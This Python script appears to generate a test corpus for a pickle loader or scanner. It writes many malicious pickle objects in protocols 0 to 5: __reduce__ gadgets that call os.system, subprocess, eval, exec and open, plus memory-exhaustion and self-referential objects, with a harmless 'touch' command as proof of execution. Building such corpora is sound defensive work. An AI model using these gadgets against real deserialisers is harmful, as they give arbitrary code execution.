"""Writes attacks with CPython's own pickler: each object in protocols 0 to 5, packed into one file.

Each would run a command, or call something, in a reader that obeys. The command makes the file argv[2].
"""
import builtins
import codecs
import functools
import io
import operator
import os
import pickle
import struct
import subprocess
import sys
import types

out, proof = sys.argv[1:3]
command = f'touch {proof}'


class Reduced:
    def __init__(self, *reduced):
        self.reduced = reduced

    def __reduce__(self):
        return self.reduced


class WithState:
    """BUILD of an object of a class of ours."""
    def __init__(self):
        self.x = Reduced(os.system, (command,))


class NewArguments:
    """NEWOBJ and NEWOBJ_EX."""
    def __new__(cls, *args, **kwargs):
        return object.__new__(cls)

    def __getnewargs_ex__(self):
        return (command,), {'key': command}


attacks = [
    Reduced(os.system, (command,)),
    Reduced(subprocess.check_output, (command,)),
    Reduced(subprocess.Popen, (['touch', proof],)),
    Reduced(eval, (f'__import__("os").system("{command}")',)),
    Reduced(exec, (f'open("{proof}", "w")',)),
    Reduced(builtins.open, (proof, 'w')),
    Reduced(builtins.__import__, ('os',)),
    Reduced(getattr, ('', 'join')),
    Reduced(functools.partial, (os.system, command)),
    Reduced(operator.methodcaller, ('system', command)),
    Reduced(operator.attrgetter, ('__class__.__base__',)),
    Reduced(map, (os.system, [command])),
    Reduced(codecs.decode, (b'x', 'rot13')),
    Reduced(types.CodeType, ()),
    Reduced(type, ('A', (), {})),
    Reduced(bytearray, (1 << 30,)),
    Reduced(list, ((1, 2),)),
    Reduced(range, (10**12,)),
    # An object, its state, a list and a dict that a call fills.
    Reduced(dict, (), {'a': 1}),
    Reduced(list, (), None, iter([Reduced(os.system, (command,))])),
    Reduced(dict, (), None, None, iter([('a', Reduced(os.system, (command,)))])),
    {'weight': Reduced(os.system, (command,))},
    {'a': [Reduced(os.system, (command,))]},
    WithState(),
    NewArguments(),
    {1, 2}, frozenset([1]), b'bytes', bytearray(b'x'), 1.5, 10**400, -1, True, None, 'text', 'é' * 300,
    (1, (2, 3)), [1, [2, [3]]], complex(1, 2), slice(1), Ellipsis, NotImplemented, print, os.system, WithState, pickle,
]
# An object that holds itself.
loop = []
loop.append(loop)
attacks.append(loop)
loop = {}
loop['x'] = loop
attacks.append(loop)

with open(out, 'wb') as file:
    for attack in attacks:
        for protocol in range(6):
            try:
                content = pickle.dumps(attack, protocol)
            except Exception:
                continue
            file.write(struct.pack('<I', len(content)) + content)
